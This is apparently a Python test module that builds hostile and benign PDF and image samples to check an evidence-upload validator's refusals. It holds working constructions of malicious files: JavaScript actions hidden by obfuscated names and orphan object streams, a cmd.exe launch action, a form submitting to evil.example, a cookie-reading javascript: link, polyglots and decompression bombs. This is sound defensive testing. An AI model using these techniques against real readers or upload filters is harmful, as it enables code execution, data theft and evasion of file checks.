"""A corpus of hostile evidence files, built in memory, each with the refusal it must meet.

Every PDF is written by pikepdf the way a real tool would write it, most of them with their objects
packed in compressed object streams so that nothing can be found by reading the bytes. ``HOSTILE``
lists the files that must be refused (code and the words of the reason), ``BENIGN`` the files that
look a little like them and must be accepted. Building all of them takes well under a second.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


@dataclass(frozen=True)
class Sample:
    """One file of the corpus: its name, how to build its bytes, and the refusal it must meet."""

    id: str
    filename: str
    build: object
    code: str = ""
    reason: str = ""
    settings: dict = field(default_factory=dict)

    def content(self):
        return self.build()


# --- Building blocks --------------------------------------------------------------------------------


def image(fmt="PNG", size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 90, 200)).save(buffer, fmt)
    return buffer.getvalue()


def pdf(change=None, *, packed=True, encryption=None, text=b"BT /F1 12 Tf 72 720 Td (Patent certificate) Tj ET"):
    """A one-page PDF with a text content stream, changed by ``change(pdf, page)`` before saving."""
    document = pikepdf.Pdf.new()
    document.add_blank_page(page_size=(595, 842))
    page = document.pages[0]
    page.obj.Contents = document.make_stream(text)
    page.obj.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    if change is not None:
        change(document, page.obj)
    buffer = io.BytesIO()
    options = dict(PACKED) if packed else {}
    if encryption is not None:
        options["encryption"] = encryption
    document.save(buffer, **options)
    return buffer.getvalue()


def action(document, kind, **entries):
    return document.make_indirect(Dictionary(S=Name("/" + kind), **entries))


def annotation(document, page, subtype, **entries):
    annot = document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([72, 72, 144, 144]), **entries)
    )
    page.Annots = Array([annot])
    return annot


def embedded_file(document, *, typed=True):
    stream = document.make_stream(b"MZ\x90\x00 not really a program")
    if typed:
        stream.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=stream))


def raw_pdf(*objects):
    """A hand-written PDF (no cross-reference table: qpdf rebuilds it, as readers do)."""
    body = b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


_PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
)


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb():
    """A PNG whose header claims 100,000 × 100,000 pixels over a few bytes of data."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + png_chunk(b"IEND", b"")
    )


def zip_archive(comment=b""):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<html><script>alert(1)</script></html>")
        archive.comment = comment
    return buffer.getvalue()


def object_stream_bomb():
    """4 MiB of zero bytes in a string, written as 8 MiB of hex into a compressed object stream of a few
    kilobytes (the test lowers the budget to 1 MiB rather than build a real bomb)."""

    def change(document, _page):
        document.Root.Padding = document.make_indirect(Dictionary(Pad=String(b"\0" * (4 * 1024 * 1024))))

    return pdf(change)


# --- The PDFs that must be refused ---------------------------------------------------------------------


def _open_action_js(document, _page):
    document.Root.OpenAction = action(document, "JavaScript", JS=String("app.alert('x')"))


def _page_aa(document, page):
    page.AA = Dictionary(O=action(document, "JavaScript", JS=String("this.print()")))


def _catalog_aa(document, _page):
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _launch(document, _page):
    document.Root.OpenAction = action(document, "Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


def _submit_form(document, page):
    annotation(document, page, "Link", A=action(document, "SubmitForm", F=String("https://evil.example/collect")))


def _import_data(document, _page):
    document.Root.OpenAction = action(document, "ImportData", F=String("secrets.fdf"))


def _rendition(document, page):
    screen = annotation(document, page, "Screen")
    screen.A = action(document, "Rendition", OP=1, AN=screen)


def _rendition_from_link(document, page):
    annotation(document, page, "Link", A=action(document, "Rendition", OP=0))


def _gotor(document, page):
    annotation(document, page, "Link", A=action(document, "GoToR", F=String("\\\\evil\\share\\x.pdf"), D=Array([0])))


def _gotoe(document, page):
    annotation(document, page, "Link", A=action(document, "GoToE", T=Dictionary(R=Name.C, N=String("x"))))


def _rich_media(document, page):
    annotation(document, page, "RichMedia", RichMediaSettings=Dictionary())


def _rich_media_execute(document, _page):
    document.Root.OpenAction = action(document, "RichMediaExecute", CMD=Dictionary(C=String("play")))


def _xfa(document, _page):
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp:xdp><script/></xdp:xdp>"))


def _embedded_files_tree(document, _page):
    names = Array([String("invoice.exe"), document.make_indirect(embedded_file(document))])
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))


def _file_attachment_untyped(document, page):
    annotation(document, page, "FileAttachment", FS=embedded_file(document, typed=False))


def _javascript_name_tree(document, _page):
    script = action(document, "JavaScript", JS=document.make_stream(b"app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def _widget_js_key(document, page):
    # No /S at all: a reader still runs /JS of an action dictionary.
    widget = annotation(document, page, "Widget", FT=Name.Btn, T=String("ok"), A=Dictionary(JS=String("app.alert(1)")))
    document.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _field_format_script(document, page):
    widget = annotation(document, page, "Widget", FT=Name.Tx, T=String("amount"))
    widget.AA = Dictionary(F=Dictionary(S=Name.JavaScript, JS=String("AFNumber_Format(2)")))
    document.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _javascript_uri(document, page):
    annotation(document, page, "Link", A=Dictionary(S=Name.URI, URI=String("java\tscript:alert(document.cookie)")))


def _file_uri(document, page):
    annotation(document, page, "Link", A=Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe")))


def _deeply_nested_js(document, _page):
    nested = Dictionary(S=Name.JavaScript, JS=String("x"))
    for _level in range(30):
        nested = Dictionary(Next=Array([nested]))
    document.Root.Extra = nested


def _sound_annotation(document, page):
    annotation(document, page, "Sound", Sound=document.make_stream(b"\0" * 16))


# Names written with #xx escapes, which a byte search for "JavaScript" would never see.
OBFUSCATED_NAMES = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    *_PAGES,
    b"<< /S /#4A#61vaScript /J#53 (app.alert(1)) >>",
)

# No cross-reference table, and the action defined twice: qpdf keeps the later (harmless) definition,
# a reader keeping the first would run the script.
DEFINED_TWICE = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    *_PAGES,
    b"<< /S /JavaScript /JS (app.alert(1)) >>",
).replace(b"trailer", b"4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer")

# An object stream behind two filters, ASCII-hex over Flate, holding a JavaScript action, with no
# cross-reference stream pointing into it: qpdf does not see its objects, a reader rebuilding the file
# might.
_HIDDEN = b"<< /S /JavaScript /JS (app.alert(1)) >>\n"
_PACKED_HIDDEN = zlib.compress(b"4 0\n" + _HIDDEN).hex().encode() + b">"
TWO_FILTER_OBJECT_STREAM = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    *_PAGES,
    b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length %d >>\nstream\n"
    % len(_PACKED_HIDDEN)
    + _PACKED_HIDDEN
    + b"\nendstream",
).replace(b"4 0 obj\n", b"5 0 obj\n")


def _active(id, change, reason, **options):
    return Sample(id, f"{id}.pdf", lambda: pdf(change, **options), "evidence_pdf_active", reason)


JAVASCRIPT = "JavaScript"
LAUNCH = "an action that starts a program"
ATTACHMENT = "an attached file"
SUBMIT = "a form that sends its data to an address on the internet"
IMPORT = "an action that imports data from another file"
MEDIA = "a multimedia player (rendition, movie or sound)"
OTHER_FILE = "a link that opens another or an attached document"
RICH_MEDIA = "rich media (Flash or 3D content)"
XFA = "an XFA form, which can carry scripts"
LINK = "a link that is not a web or e-mail address"

HOSTILE = [
    _active("js-open-action", _open_action_js, JAVASCRIPT, packed=False),
    _active("js-in-object-stream", _open_action_js, JAVASCRIPT),
    _active("js-page-aa", _page_aa, JAVASCRIPT),
    _active("js-catalog-aa", _catalog_aa, JAVASCRIPT),
    _active("js-names-tree", _javascript_name_tree, JAVASCRIPT),
    _active("js-key-in-widget-action", _widget_js_key, JAVASCRIPT),
    _active("js-field-format-script", _field_format_script, JAVASCRIPT),
    _active("js-deeply-nested", _deeply_nested_js, JAVASCRIPT),
    Sample("js-obfuscated-names", "obfuscated.pdf", lambda: OBFUSCATED_NAMES, "evidence_pdf_active", JAVASCRIPT),
    Sample(
        "orphan-object-stream",
        "filters.pdf",
        lambda: TWO_FILTER_OBJECT_STREAM,
        "evidence_pdf_unreadable",
        "packed in a way this portal cannot check",
    ),
    _active("launch", _launch, LAUNCH),
    _active("submit-form", _submit_form, SUBMIT),
    _active("import-data", _import_data, IMPORT),
    _active("rendition-screen", _rendition, MEDIA),
    _active("rendition-link", _rendition_from_link, MEDIA),
    _active("sound-annotation", _sound_annotation, MEDIA),
    _active("goto-remote", _gotor, OTHER_FILE),
    _active("goto-embedded", _gotoe, OTHER_FILE),
    _active("rich-media", _rich_media, RICH_MEDIA),
    _active("rich-media-execute", _rich_media_execute, RICH_MEDIA),
    _active("xfa", _xfa, XFA),
    _active("embedded-files-tree", _embedded_files_tree, ATTACHMENT),
    _active("file-attachment-untyped", _file_attachment_untyped, ATTACHMENT),
    _active("javascript-uri", _javascript_uri, LINK),
    _active("file-uri", _file_uri, LINK),
    Sample(
        "encrypted-rc4",
        "rc4.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="owner", user="", R=4, aes=False, metadata=False)),
        "evidence_pdf_encrypted",
        "encrypted",
    ),
    Sample(
        "encrypted-aes-password",
        "aes.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="owner", user="secret", R=6)),
        "evidence_pdf_encrypted",
        "encrypted",
    ),
    Sample(
        "object-stream-bomb",
        "bomb.pdf",
        object_stream_bomb,
        "evidence_pdf_unreadable",
        "packed in a way this portal cannot check",
        settings={"EVIDENCE_PDF_INFLATE_BUDGET": 1024 * 1024},
    ),
    Sample(
        "object-defined-twice",
        "twice.pdf",
        lambda: DEFINED_TWICE,
        "evidence_pdf_unreadable",
        "packed in a way this portal cannot check",
    ),
    Sample(
        "pdf-without-page-tree",
        "broken.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog >>"),
        "evidence_pdf_damaged",
        "its PDF structure cannot be read",
    ),
    # --- Bytes-level refusals: renamed files, polyglots, damage, size ---
    Sample(
        "html-renamed-pdf",
        "certificate.pdf",
        lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "evidence_type",
        "HTML",
    ),
    Sample(
        "svg-renamed-png",
        "logo.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "evidence_type",
        "an SVG image",
    ),
    Sample("zip-renamed-pdf", "report.pdf", zip_archive, "evidence_type", "a ZIP archive"),
    Sample("exe-renamed-pdf", "setup.pdf", lambda: b"MZ\x90\x00" + b"\0" * 200, "evidence_type", "a Windows program"),
    Sample("gif-renamed-jpg", "photo.jpg", lambda: image("GIF"), "evidence_type", "a GIF image"),
    Sample(
        "pdf-with-leading-junk",
        "junk.pdf",
        lambda: b"<!-- x -->\n" + pdf(),
        "evidence_pdf_header",
        "does not start with %PDF-",
    ),
    Sample(
        "pdf-with-html-in-first-kb",
        "page.pdf",
        lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "evidence_polyglot",
        "web page code (<script)",
    ),
    Sample(
        "pdf-zip-polyglot",
        "both.pdf",
        lambda: pdf() + zip_archive(comment=b"\n%%EOF\n"),
        "evidence_polyglot",
        "a ZIP archive hidden in it",
    ),
    Sample(
        "pdf-truncated",
        "cut.pdf",
        lambda: pdf()[:-200],
        "evidence_pdf_truncated",
        "ends with %%EOF",
    ),
    Sample("png-truncated", "scan.png", lambda: image()[:-20], "evidence_damaged", "damaged"),
    Sample("png-trailing-zip", "scan.png", lambda: image() + zip_archive(), "evidence_polyglot", "ZIP archive"),
    Sample(
        "png-trailing-html",
        "scan.png",
        lambda: image() + b"<html><script>alert(1)</script></html>",
        "evidence_polyglot",
        "web page code",
    ),
    Sample(
        "jpeg-zip-polyglot",
        "photo.jpg",
        lambda: image("JPEG") + zip_archive(),
        "evidence_polyglot",
        "ZIP archive",
    ),
    Sample(
        "jpeg-trailing-data",
        "photo.jpg",
        lambda: image("JPEG") + b"\x01" * 500,
        "evidence_polyglot",
        "500 bytes of other data after the end of the image",
    ),
    Sample("png-bomb-dimensions", "bomb.png", png_bomb, "evidence_image_too_large", "more pixels than"),
    Sample(
        "oversize",
        "big.pdf",
        lambda: pdf().replace(b"%%EOF", b"%" + b"a" * 2000 + b"\n%%EOF"),
        "evidence_too_large",
        "a single file may be at most",
        settings={"EVIDENCE_MAX_FILE_BYTES": 2000},
    ),
]


# --- Files that must be accepted -------------------------------------------------------------------------


def _with_image(document, page):
    picture = document.make_stream(
        zlib.compress(b"\x80" * 60 * 40 * 3),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60,
        Height=40,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )
    page.Resources.XObject = Dictionary(Im1=picture)
    page.Contents = document.make_stream(b"q 60 0 0 40 72 600 cm /Im1 Do Q")


def _links(document, page):
    annotation(document, page, "Link", A=Dictionary(S=Name.URI, URI=String("https://rst.zaozhuang.gov.cn/")))
    second = document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), Dest=Array([page, Name.Fit]))
    )
    mail = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([20, 0, 30, 10]),
        A=Dictionary(S=Name.URI, URI=String("mailto:hr@example.cn")),
    )
    goto = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([40, 0, 50, 10]),
        A=Dictionary(S=Name.GoTo, D=Array([page, Name.XYZ, 0, 800, 0])),
    )
    page.Annots.extend([second, mail, goto])
    document.Root.OpenAction = Array([page, Name.Fit])


def _outline_and_names(document, page):
    document.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("start"), Array([page, Name.Fit])])))
    document.Root.PageMode = Name.UseOutlines


BENIGN = [
    Sample("plain-text-page", "plain.pdf", lambda: pdf(packed=False)),
    Sample("plain-text-page-packed", "packed.pdf", lambda: pdf()),
    Sample("page-with-image", "image.pdf", lambda: pdf(_with_image)),
    Sample("links-uri-mailto-goto", "links.pdf", lambda: pdf(_links)),
    Sample("named-destinations", "names.pdf", lambda: pdf(_outline_and_names)),
    Sample("png", "scan.png", image),
    Sample("jpeg", "photo.jpg", lambda: image("JPEG")),
]
